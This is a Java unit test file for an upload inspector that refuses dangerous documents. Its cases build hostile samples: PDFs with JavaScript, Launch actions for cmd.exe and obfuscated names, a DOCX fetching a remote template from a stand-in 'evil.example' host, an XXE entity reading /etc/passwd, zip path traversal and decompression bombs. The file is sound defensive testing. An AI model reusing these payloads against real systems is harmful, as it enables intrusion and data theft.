@@ -1,0 +1,216 @@
+package vn.bantin.functions.images.document;
+
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
+import static java.nio.charset.StandardCharsets.UTF_16;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.Arrays;
+import java.util.List;
+import java.util.Map;
+import java.util.function.Supplier;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import vn.bantin.image.Refusal;
+
+/** What readers download has been looked into: it is what it seems, and nothing in it runs. */
+class InspectorTest {
+
+    private record Bad(String name, Refusal refusal, Supplier<byte[]> file) {
+
+        @Override
+        public String toString() {
+            return name;
+        }
+    }
+
+    static List<Bad> bad() {
+        return List.of(
+                new Bad("empty", Refusal.EMPTY, () -> new byte[0]),
+                new Bad("heavier than 20 MB", Refusal.DOCUMENT_TOO_LARGE, () -> new byte[20 * 1024 * 1024 + 1]),
+                new Bad("HTML", Refusal.NOT_A_DOCUMENT, () -> bytes("<html><script>")),
+                new Bad("program", Refusal.NOT_A_DOCUMENT, () -> bytes("MZ\u0090")),
+                new Bad("old DOC", Refusal.OLD_OFFICE, () -> bytes("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1")),
+                new Bad(
+                        "PDF with JavaScript",
+                        Refusal.ACTIVE_PDF,
+                        () -> DocumentForge.pdf("5 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj")),
+                new Bad(
+                        "PDF with JavaScript spelt out of sight",
+                        Refusal.ACTIVE_PDF,
+                        () -> DocumentForge.pdf("5 0 obj\n<</S/J#61vaScr#69pt/JS(app.alert(1))>>\nendobj")),
+                new Bad(
+                        "PDF with JavaScript in a packed object",
+                        Refusal.ACTIVE_PDF,
+                        () -> DocumentForge.pdf(DocumentForge.objectStream(
+                                "/Filter/FlateDecode", "5 0 <</S/JavaScript/JS(app.alert(1))>>"))),
+                new Bad(
+                        "PDF with objects packed twice",
+                        Refusal.ACTIVE_PDF,
+                        () -> DocumentForge.pdf(
+                                DocumentForge.objectStream("/Filter[/ASCIIHexDecode/FlateDecode]", "x"))),
+                new Bad(
+                        "PDF with objects behind a predictor",
+                        Refusal.ACTIVE_PDF,
+                        () -> DocumentForge.pdf(
+                                DocumentForge.objectStream("/Filter/FlateDecode/DecodeParms<</Predictor 12>>", "x"))),
+                new Bad(
+                        "PDF that hides its objects in a stream called a text",
+                        Refusal.ACTIVE_PDF,
+                        () -> DocumentForge.pdf("6 0 obj\n<</Length 9/Filter/FlateDecode>>\nstream\n"
+                                + DocumentForge.deflated("<</S/Launch/F(cmd.exe)>>") + "\nendstream\nendobj")),
+                new Bad(
+                        "PDF that starts a program",
+                        Refusal.ACTIVE_PDF,
+                        () -> DocumentForge.pdf("5 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj")),
+                new Bad(
+                        "PDF with a file inside",
+                        Refusal.ACTIVE_PDF,
+                        () -> DocumentForge.pdf("5 0 obj\n<</Type/EmbeddedFile>>\nendobj")),
+                new Bad(
+                        "PDF with a form that has scripts",
+                        Refusal.ACTIVE_PDF,
+                        () -> DocumentForge.pdf("5 0 obj\n<</XFA 6 0 R>>\nendobj")),
+                new Bad(
+                        "PDF that is a ZIP too",
+                        Refusal.ACTIVE_PDF,
+                        () -> join(DocumentForge.pdf(), bytes("PK\5\6" + "\0".repeat(18)))),
+                new Bad(
+                        "PDF with a password",
+                        Refusal.ENCRYPTED,
+                        () -> DocumentForge.pdf("5 0 obj\n<</Encrypt 6 0 R>>\nendobj")),
+                new Bad("PDF cut short", Refusal.DAMAGED_DOCUMENT, () -> Arrays.copyOf(DocumentForge.pdf(), 120)),
+                new Bad(
+                        "PDF bomb",
+                        Refusal.DAMAGED_DOCUMENT,
+                        () -> DocumentForge.pdf(
+                                DocumentForge.objectStream("/Filter/FlateDecode", " ".repeat(210 << 20)))),
+                new Bad("ZIP of anything", Refusal.NOT_A_DOCUMENT, () -> DocumentForge.zip(Map.of("a.txt", "x"))),
+                new Bad(
+                        "PPTX",
+                        Refusal.NOT_A_DOCUMENT,
+                        () -> DocumentForge.office(
+                                "presentationml.presentation.main+xml", "ppt/presentation.xml", Map.of())),
+                new Bad(
+                        "DOCX with macros",
+                        Refusal.MACROS,
+                        () -> DocumentForge.docx(Map.of("word/vbaProject.bin", "x"))),
+                new Bad(
+                        "DOCM named DOCX",
+                        Refusal.MACROS,
+                        () -> DocumentForge.zip(
+                                Map.of(
+                                        "[Content_Types].xml",
+                                        "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"))),
+                new Bad(
+                        "DOCX with an OLE object",
+                        Refusal.MACROS,
+                        () -> DocumentForge.docx(Map.of("word/embeddings/oleObject1.bin", "x"))),
+                new Bad(
+                        "DOCX with ActiveX",
+                        Refusal.MACROS,
+                        () -> DocumentForge.docx(Map.of("word/activeX/activeX1.xml", "<x/>"))),
+                new Bad(
+                        "DOCX that fetches its template",
+                        Refusal.MACROS,
+                        () -> DocumentForge.docx(Map.of(
+                                "word/_rels/settings.xml.rels",
+                                DocumentForge.relation("attachedTemplate", "http://evil.example/t.dotm", true)))),
+                new Bad(
+                        "the same in UTF-16",
+                        Refusal.MACROS,
+                        () -> DocumentForge.docx(Map.of(
+                                "word/_rels/settings.xml.rels",
+                                new String(
+                                        DocumentForge.relation("attachedTemplate", "http://evil.example/t.dotm", true)
+                                                .replace("?>", " encoding=\"UTF-16\"?>")
+                                                .getBytes(UTF_16),
+                                        ISO_8859_1)))),
+                new Bad(
+                        "XLSX with DDE",
+                        Refusal.MACROS,
+                        () -> DocumentForge.xlsx(Map.of("xl/externalLinks/externalLink1.xml", "<e><ddeLink/></e>"))),
+                new Bad(
+                        "XLSX with an Excel 4 macro sheet",
+                        Refusal.MACROS,
+                        () -> DocumentForge.xlsx(Map.of("xl/macrosheets/sheet1.xml", "<x/>"))),
+                new Bad(
+                        "a macro workbook inside a DOCX",
+                        Refusal.MACROS,
+                        () -> DocumentForge.docx(Map.of(
+                                "word/embeddings/book.xlsx",
+                                new String(DocumentForge.xlsx(Map.of("xl/vbaProject.bin", "x")), ISO_8859_1)))),
+                new Bad(
+                        "an external entity",
+                        Refusal.DAMAGED_DOCUMENT,
+                        () -> DocumentForge.docx(Map.of(
+                                "word/_rels/document.xml.rels",
+                                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"))),
+                new Bad(
+                        "path upwards in the ZIP",
+                        Refusal.DAMAGED_DOCUMENT,
+                        () -> DocumentForge.docx(Map.of("../../x.xml", "<x/>"))),
+                new Bad(
+                        "a part twice in other case",
+                        Refusal.DAMAGED_DOCUMENT,
+                        () -> DocumentForge.docx(Map.of("Word/Document.xml", "<x/>"))),
+                new Bad(
+                        "DOCX with a tail",
+                        Refusal.DAMAGED_DOCUMENT,
+                        () -> join(DocumentForge.docx(Map.of()), bytes("<?php"))),
+                new Bad("DOCX cut short", Refusal.DAMAGED_DOCUMENT, () -> {
+                    var file = DocumentForge.docx(Map.of());
+                    return Arrays.copyOf(file, file.length - 40);
+                }),
+                new Bad(
+                        "ZIP bomb",
+                        Refusal.DAMAGED_DOCUMENT,
+                        () -> DocumentForge.docx(Map.of("word/media/a.emf", " ".repeat(210 << 20)))));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("bad")
+    void is_refused(Bad bad) {
+        assertThat(Inspector.inspect(bad.file().get())).isEqualTo(new Inspection.Refused(bad.refusal()));
+    }
+
+    @Test
+    void ordinary_documents_are_taken() {
+        assertThat(Inspector.inspect(DocumentForge.pdf())).isEqualTo(new Inspection.Accepted(DocumentType.PDF, null));
+        assertThat(Inspector.inspect(DocumentForge.docx(Map.of(
+                        "word/_rels/document.xml.rels",
+                        DocumentForge.relation("hyperlink", "https://example.org", true)))))
+                .isEqualTo(new Inspection.Accepted(DocumentType.DOCX, null));
+        assertThat(Inspector.inspect(DocumentForge.xlsx(Map.of("xl/printerSettings/printerSettings1.bin", "x"))))
+                .isEqualTo(new Inspection.Accepted(DocumentType.XLSX, null));
+        assertThat(Inspector.inspect(DocumentForge.docx(
+                        Map.of("word/embeddings/chart.xlsx", new String(DocumentForge.xlsx(Map.of()), ISO_8859_1)))))
+                .isEqualTo(new Inspection.Accepted(DocumentType.DOCX, null));
+    }
+
+    @Test
+    void a_pdf_whose_fonts_are_in_packed_objects_has_text() {
+        var packed = DocumentForge.objectStream("/Filter/FlateDecode", "5 0 <</Type/Font/BaseFont/Arial>>");
+        assertThat(Inspector.inspect(DocumentForge.pdf(false, packed)))
+                .isEqualTo(new Inspection.Accepted(DocumentType.PDF, null));
+    }
+
+    @Test
+    void a_scanned_pdf_gets_a_warning() {
+        var image = "4 0 obj\n<</Subtype/Image/Filter/DCTDecode>>\nstream\nxx\nendstream\nendobj";
+        assertThat(Inspector.inspect(DocumentForge.pdf(false, image)))
+                .isInstanceOfSatisfying(Inspection.Accepted.class, accepted -> assertThat(accepted.warning())
+                        .contains("bản chụp")
+                        .contains("scanned"));
+    }
+
+    private static byte[] bytes(String latin1) {
+        return latin1.getBytes(ISO_8859_1);
+    }
+
+    private static byte[] join(byte[] a, byte[] b) {
+        var out = Arrays.copyOf(a, a.length + b.length);
+        System.arraycopy(b, 0, out, a.length, b.length);
+        return out;
+    }
+}
